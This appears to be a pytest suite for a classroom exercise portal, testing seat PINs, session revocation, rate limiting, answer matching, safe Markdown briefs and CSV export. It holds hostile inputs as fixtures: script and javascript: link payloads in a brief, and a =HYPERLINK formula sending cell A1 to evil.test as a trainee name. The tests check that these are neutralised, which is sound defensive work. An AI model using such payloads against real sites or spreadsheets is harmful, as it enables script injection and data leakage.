"""A classroom a class can trust: one trainee per seat, revocable sessions, throttles,
answers as people type them, readable briefs, the exercise clock, safe CSV (architecture rule 8: a class can trust it)."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlencode

import pytest
import requests
import yaml

from sandbox.classroom.compare import answer_matches
from sandbox.classroom.throttle import Rate, Throttle
from sandbox.scenario import load_scenario
from sandbox.world.build import build_world
from tests.chromium import needs_chromium, start_chromium
from tests.test_classroom import (
    COURSE,
    PASSWORD,
    PIN,
    Portal,
    answer,
    course_key,
    csrf_of,
    instructor,
    score_of,
    trainee,
)

BRIEF = (
    "# Operation Nightjar\n\n**Identify** {subject.handle}.\n\n"
    "<script>alert('brief')</script>\n\n[Open me](javascript:alert(1)) and "
    '<a href="javascript:alert(2)">this</a>.'
)
ACCENTED = "Zoë Häring"


@pytest.fixture(scope="module")
def trust_world(tmp_path_factory) -> Path:
    """tests/data/course.yaml with a Markdown brief, an `accept:` name and a minute-0 message."""
    data = yaml.safe_load(COURSE.read_text())
    for artefact in data["artefacts"]:
        if artefact["kind"] == "brief":
            artefact["text"] = BRIEF
    name = next(o for o in data["objectives"] if o["id"] == "name")
    name["accept"] = [ACCENTED]
    data["injects"].append(
        {"id": "hello", "at": 0, "action": "message", "text": "The clock runs: good hunting."}
    )
    folder = tmp_path_factory.mktemp("trust")
    (folder / "trust.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    out = folder / "trust.db"
    build_world(load_scenario(str(folder / "trust.yaml")), out)
    return out


@pytest.fixture(scope="module")
def info(trust_world) -> dict:
    """Seat codes and the key of the trust world."""
    return course_key(trust_world)


@pytest.fixture
def portal(trust_world, tmp_path):
    """A fresh portal on the trust world; the clock is started by each test that needs it."""
    p = Portal(trust_world, tmp_path / "state", tick=False)
    yield p
    p.close()


def join(url: str, code: str, name: str = "", pin: str = "", session=None):
    """POST the join form from a (new) session; returns (session, response)."""
    s = session or requests.Session()
    token = csrf_of(s.get(f"{url}/join", timeout=10).text)
    r = s.post(
        f"{url}/join", data={"csrf": token, "code": code, "name": name, "pin": pin}, timeout=10
    )
    return s, r


def seated(s, url: str) -> bool:
    """Whether a session still reaches the case page."""
    r = s.get(f"{url}/", timeout=10)
    return r.url.rstrip("/") == url and "Objectives" in r.text


def start_clock(url: str) -> None:
    """The instructor starts the exercise clock."""
    teacher, tcsrf = instructor(url)
    r = teacher.post(f"{url}/instructor/clock/start", data={"csrf": tcsrf}, timeout=10)
    assert r.status_code == 200 and "Exercise clock started" in r.text


# -- one trainee per seat ------------------------------------------------------------------


def test_second_join_with_the_code_alone_is_refused(portal, info):
    """The seat stays with whoever joined first; an intruder with the code gets a clear 409."""
    code = info["codes"][1]
    anna, _ = trainee(portal.url, code, "Anna")
    intruder, r = join(portal.url, code, "Mallory")
    assert r.status_code == 409 and "Seat 1 is already taken" in r.text and "PIN" in r.text
    assert not seated(intruder, portal.url)
    assert seated(anna, portal.url)
    assert portal.classroom.progress.trainee(1)["name"] == "Anna"
    _, r = join(portal.url, code, "Mallory", pin="0000")
    assert r.status_code == 403 and "Wrong PIN" in r.text
    assert seated(anna, portal.url)


def test_code_and_pin_move_the_seat_and_survive_a_restart(trust_world, tmp_path, info):
    """Code + PIN rejoins from another browser (the old one is signed out), also after a restart."""
    state = tmp_path / "state"
    p = Portal(trust_world, state, tick=False)
    try:
        first, _ = trainee(p.url, info["codes"][2], "Ben", pin="ben-secret")
        stored = p.classroom.progress.trainee(2)["pin"]
        assert "ben-secret" not in stored and stored.startswith("scrypt$")
    finally:
        p.close()
    p = Portal(trust_world, state, tick=False)  # a restart: the binding is in classroom.db
    try:
        assert seated(first, p.url)
        second, r = join(p.url, info["codes"][2].lower(), "Ben B.", pin="ben-secret")
        assert r.status_code == 200 and "you are at seat 2" in r.text
        assert seated(second, p.url) and not seated(first, p.url)
        assert p.classroom.progress.trainee(2)["name"] == "Ben B."
    finally:
        p.close()


def test_a_copied_trainee_cookie_is_useless_after_leaving(portal, info):
    """Leave ends the session server-side: a copy of the cookie taken before is signed out too."""
    s, csrf = trainee(portal.url, info["codes"][3], "Cara")
    copy = requests.Session()
    copy.cookies.set("classroom", s.cookies.get("classroom"))
    assert seated(copy, portal.url)
    s.post(f"{portal.url}/leave", data={"csrf": csrf}, timeout=10)
    assert not seated(s, portal.url) and not seated(copy, portal.url)
    r = copy.post(f"{portal.url}/objectives/name/answer", data={"csrf": csrf, "answer": "x"})
    assert r.status_code == 403
    _, r = join(portal.url, info["codes"][3], "Cara")  # the seat stays hers: PIN needed
    assert r.status_code == 409
    back, r = join(portal.url, info["codes"][3], "Cara", pin=PIN)
    assert r.status_code == 200 and seated(back, portal.url)


def test_a_copied_instructor_cookie_cannot_read_the_key_after_logout(portal, info):
    """Logging out ends the instructor's session in classroom.db, not just in the browser."""
    teacher, tcsrf = instructor(portal.url)
    copy = requests.Session()
    copy.cookies.set("classroom", teacher.cookies.get("classroom"))
    seat_page = f"{portal.url}/instructor/seats/1"
    assert info["key"][(1, "iban")] in copy.get(seat_page, timeout=10).text
    r = teacher.post(f"{portal.url}/instructor/logout", data={"csrf": tcsrf}, timeout=10)
    assert "/instructor/login" in r.url
    r = copy.get(seat_page, timeout=10, allow_redirects=False)
    assert r.status_code == 302 and info["key"][(1, "iban")] not in r.text
    assert copy.get(f"{portal.url}/instructor/board.json", timeout=10).status_code == 403
    other, _ = instructor(portal.url)  # logging in again works, with a new session
    assert info["key"][(1, "iban")] in other.get(seat_page, timeout=10).text


def test_the_instructor_releases_a_seat(portal, info):
    """Release signs the seat's trainee out and forgets the PIN; the next join binds afresh."""
    code = info["codes"][4]
    holder, hcsrf = trainee(portal.url, code, "Dan")
    teacher, tcsrf = instructor(portal.url)
    r = teacher.post(f"{portal.url}/instructor/seats/4/release", timeout=10)
    assert r.status_code == 400  # no CSRF token: nothing released
    r = holder.post(f"{portal.url}/instructor/seats/4/release", data={"csrf": hcsrf})
    assert r.status_code == 403  # a trainee cannot release seats
    assert seated(holder, portal.url)
    page = teacher.get(f"{portal.url}/instructor/seats/4", timeout=10).text
    assert "Release this seat" in page and "the trainee stays seated" in page
    r = teacher.post(f"{portal.url}/instructor/seats/4/release", data={"csrf": tcsrf})
    assert r.status_code == 200 and "Seat 4 released" in r.text
    assert not seated(holder, portal.url)
    assert portal.classroom.progress.trainee(4) is None
    newcomer, r = join(portal.url, code, "Eve", pin="9876")
    assert r.status_code == 200 and seated(newcomer, portal.url)
    _, r = join(portal.url, code, "Dan", pin=PIN)  # the old PIN is gone
    assert r.status_code == 403
    r = teacher.post(f"{portal.url}/instructor/seats/99/release", data={"csrf": tcsrf})
    assert r.status_code == 404


# -- throttles -----------------------------------------------------------------------------


def test_a_flood_of_wrong_codes_or_passwords_gets_429(portal, info):
    """One client guessing codes or passwords is stopped with 429 and Retry-After."""
    statuses = []
    s = requests.Session()
    for i in range(25):
        _, r = join(portal.url, f"ZZZ-{i:03d}", "Guesser", pin="1234", session=s)
        statuses.append(r.status_code)
    assert statuses[0] == 400 and statuses[-1] == 429
    assert int(r.headers["Retry-After"]) >= 1 and "Too many wrong seat codes" in r.text
    _, r = join(portal.url, info["codes"][1], "Anna", pin=PIN, session=s)
    assert r.status_code == 429  # even a right code waits: it would otherwise be a free guess
    assert portal.classroom.progress.trainee(1) is None
    bad = requests.Session()
    token = csrf_of(bad.get(f"{portal.url}/instructor/login", timeout=10).text)
    statuses = [
        bad.post(
            f"{portal.url}/instructor/login", data={"csrf": token, "password": f"guess{i}"}
        ).status_code
        for i in range(12)
    ]
    assert statuses[0] == 403 and statuses[-1] == 429
    r = bad.post(f"{portal.url}/instructor/login", data={"csrf": token, "password": PASSWORD})
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1
    assert bad.get(f"{portal.url}/instructor/board.json", timeout=10).status_code == 403


def join_from(url: str, source: str, code: str, pin: str = "") -> int:
    """POST the join form from a given loopback source address; returns the status."""
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=10, source_address=(source, 0))
    try:
        conn.request("GET", "/join")
        r = conn.getresponse()
        cookie = r.getheader("Set-Cookie").split(";")[0]
        token = csrf_of(r.read().decode())
        body = urlencode({"csrf": token, "code": code, "name": "T", "pin": pin})
        headers = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
        conn.request("POST", "/join", body=body, headers=headers)
        r = conn.getresponse()
        r.read()
        return r.status
    finally:
        conn.close()


def test_40_trainees_mistyping_from_their_own_machines_are_not_throttled(portal, info):
    """Per-client limits go by address; the global cap leaves room for a whole class."""
    statuses = [join_from(portal.url, f"127.0.0.{n}", "NOT-ASEAT") for n in range(2, 42)]
    assert statuses == [400] * 40
    flood = [join_from(portal.url, "127.0.1.1", "NOT-ASEAT") for _ in range(12)]
    assert flood[0] == 400 and flood[-1] == 429
    assert join_from(portal.url, "127.0.0.2", info["codes"][5], pin="5555") == 303


def test_throttle_lets_a_class_of_40_join_and_stops_one_guesser():
    """40 clients mistyping once each in the same minute pass; one client's flood does not."""
    now = [1000.0]
    joins = Throttle(Rate(10, 60), Rate(60, 60), clock=lambda: now[0])
    for n in range(40):  # each mistypes once, then joins (a right code costs nothing)
        assert joins.wait(f"10.0.0.{n}") is None
        joins.charge(f"10.0.0.{n}")
        assert joins.wait(f"10.0.0.{n}") is None
    for _ in range(10):
        assert joins.wait("10.0.1.1") is None
        joins.charge("10.0.1.1")
    wait = joins.wait("10.0.1.1")
    assert wait is not None and wait >= 1
    assert joins.wait("10.0.0.7") is None  # others are not held up
    now[0] += wait
    assert joins.wait("10.0.1.1") is None  # after Retry-After seconds it may try again
    # A wave of 30 parallel guesses all passed the check: the debt makes it wait for them.
    for _ in range(30):
        joins.charge("10.0.2.2")
    assert joins.wait("10.0.2.2") >= (30 - 10 + 1) * 6


# -- answers as people type them -----------------------------------------------------------


def test_names_match_without_accents_or_case_and_accept_alternatives(portal, info):
    """Häring = Haring; an objective's `accept:` list is right too, for every seat."""
    assert answer_matches("nocase", "Haring", "Häring") and answer_matches(
        "nocase", "HÄRING", "häring"
    )
    assert answer_matches("nocase", "francois", "François") and not answer_matches(
        "nocase", "Harings", "Häring"
    )
    assert answer_matches("nocase", "zoe haring", "Someone Else", accept=[ACCENTED])
    assert not answer_matches("set", "x", ["y"], accept=["x"])  # accept is for exact and nocase
    start_clock(portal.url)
    s, csrf = trainee(portal.url, info["codes"][1])
    name = info["key"][(1, "name")]
    accented = name[0] + "\u0301" + name[1:].upper()  # an accent and the wrong case
    r = answer(s, portal.url, csrf, "name", accented)
    assert "Correct: name solved" in r.text and score_of(r.text) == 20
    other, ocsrf = trainee(portal.url, info["codes"][2], "Ben")
    r = answer(other, portal.url, ocsrf, "name", "zoe  HARING")
    assert "Correct: name solved" in r.text


def test_sandbox_key_lists_accepted_answers(trust_world):
    """`sandbox key` shows an objective's accepted alternatives, in text and JSON."""
    done = subprocess.run(
        [sys.executable, "-m", "sandbox", "key", str(trust_world), "--seat", "1"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0 and f"(also accepted: {ACCENTED})" in done.stdout
    done = subprocess.run(
        [sys.executable, "-m", "sandbox", "key", str(trust_world), "--json"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    seat = json.loads(done.stdout)["seats"][0]
    accept = {o["id"]: o["accept"] for o in seat["objectives"]}
    assert accept["name"] == [ACCENTED] and accept["email"] == []


def test_accept_on_a_set_objective_is_a_validation_error(tmp_path):
    """`accept:` is refused, with FILE:LINE, where the comparison cannot use it."""
    text = COURSE.read_text()
    marker = "field: addresses}, compare: set}"
    assert marker in text
    bad = text.replace(marker, "field: addresses}, compare: set, accept: [x]}", 1)
    path = tmp_path / "bad.yaml"
    path.write_text(bad)
    line = next(i for i, t in enumerate(bad.splitlines(), 1) if "accept: [x]" in t)
    done = subprocess.run(
        [sys.executable, "-m", "sandbox", "validate", str(path)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode != 0
    said = done.stdout + done.stderr
    assert re.search(rf"bad\.yaml:{line}: objectives\[\d+\]\.accept: accept lists", said), said


# -- the trainee's page --------------------------------------------------------------------


def test_the_brief_is_rendered_markdown_with_nothing_live(portal, info):
    """Headings and bold render as HTML; a script or javascript: link in the brief stays dead."""
    s, _ = trainee(portal.url, info["codes"][1])
    page = s.get(f"{portal.url}/", timeout=10).text
    start = page.index('class="brief markdown"')
    brief = page[start : page.index("</div>", start)]
    assert "<h1>Operation Nightjar</h1>" in brief and "<strong>Identify</strong>" in brief
    assert "**" not in brief and "# Operation" not in brief
    assert "<script" not in brief and "&lt;script&gt;" in brief
    assert 'href="javascript' not in brief.lower() and "<a " not in brief
    view = s.get(f"{portal.url}/artefacts/brief?view=1", timeout=10)
    assert view.headers["Content-Type"].startswith("text/html")
    assert "<strong>Identify</strong>" in view.text and "<script" not in view.text
    assert "sandbox" in view.headers["Content-Security-Policy"]
    raw = s.get(f"{portal.url}/artefacts/brief", timeout=10)
    assert "# Operation Nightjar" in raw.text and "**Identify**" in raw.text  # the file itself


def test_before_the_clock_starts_nobody_can_submit(portal, info):
    """The page says the exercise has not started; answers and hints are refused until it has."""
    s, csrf = trainee(portal.url, info["codes"][1])
    page = s.get(f"{portal.url}/", timeout=10).text
    assert "The exercise has not started yet" in page
    r = answer(s, portal.url, csrf, "name", info["key"][(1, "name")])
    assert r.status_code == 409 and "has not started yet: wait for your instructor" in r.text
    r = s.post(f"{portal.url}/objectives/name/hint", data={"csrf": csrf, "position": 0})
    assert r.status_code == 409 and "has not started yet" in r.text
    assert portal.classroom.progress.submissions() == []
    assert portal.classroom.progress.board() == {}
    start_clock(portal.url)
    r = answer(s, portal.url, csrf, "name", info["key"][(1, "name")])
    assert "Correct: name solved" in r.text and "has not started" not in r.text


def test_a_minute_0_message_appears_right_after_the_start(portal, info):
    """Starting the clock fires the minute-0 injects at once (this portal has no ticker)."""
    s, _ = trainee(portal.url, info["codes"][1])
    assert s.get(f"{portal.url}/me.json", timeout=10).json()["messages"] == []
    start_clock(portal.url)
    me = s.get(f"{portal.url}/me.json", timeout=10).json()
    assert me["started_at"] and [m["text"] for m in me["messages"]] == [
        "The clock runs: good hunting."
    ]
    assert "The clock runs: good hunting." in s.get(f"{portal.url}/", timeout=10).text
    assert portal.classroom.progress.fired("hello", None)


# -- results.csv ---------------------------------------------------------------------------


def test_results_csv_never_holds_a_live_formula(portal, info):
    """A trainee named =HYPERLINK(...) is exported as text, with a leading apostrophe."""
    evil = '=HYPERLINK("http://evil.test/?"&A1,"open")'
    trainee(portal.url, info["codes"][1], evil)
    trainee(portal.url, info["codes"][2], "@SUM(1+1)")
    trainee(portal.url, info["codes"][3], "Ann-Marie")
    teacher, _ = instructor(portal.url)
    r = teacher.get(f"{portal.url}/instructor/results.csv", timeout=10)
    rows = {row["seat"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert rows["1"]["name"] == "'" + evil
    assert rows["2"]["name"] == "'@SUM(1+1)" and rows["3"]["name"] == "Ann-Marie"
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.browser
@needs_chromium
def test_in_a_browser_the_page_opens_when_the_clock_starts(portal, info):
    """Chromium: the brief reads as formatted text with no live link; the open page notices
    the start by itself, shows the minute-0 message and opens the answer forms."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    driver = start_chromium()
    try:
        driver.get(f"{portal.url}/join")
        driver.find_element(By.NAME, "code").send_keys(info["codes"][6])
        driver.find_element(By.NAME, "name").send_keys("Chris")
        driver.find_element(By.NAME, "pin").send_keys(PIN)
        driver.find_element(By.CSS_SELECTOR, "form button[type=submit]").click()
        WebDriverWait(driver, 20).until(lambda d: "Objectives" in d.page_source)
        brief = driver.find_element(By.CSS_SELECTOR, ".brief")
        headings = [h.text for h in brief.find_elements(By.TAG_NAME, "h1")]
        assert "Operation Nightjar" in headings
        assert "**" not in brief.text and "<script>alert('brief')</script>" in brief.text
        assert brief.find_elements(By.TAG_NAME, "a") == []
        assert driver.find_element(By.ID, "not-started").is_displayed()
        submit = "#obj-name form.answer button[type=submit]"
        assert not driver.find_element(By.CSS_SELECTOR, submit).is_enabled()
        start_clock(portal.url)
        WebDriverWait(driver, 30).until(
            lambda d: "The clock runs: good hunting." in d.find_element(By.ID, "messages").text
        )
        assert driver.find_elements(By.ID, "not-started") == []
        assert driver.find_element(By.CSS_SELECTOR, submit).is_enabled()
    finally:
        driver.quit()
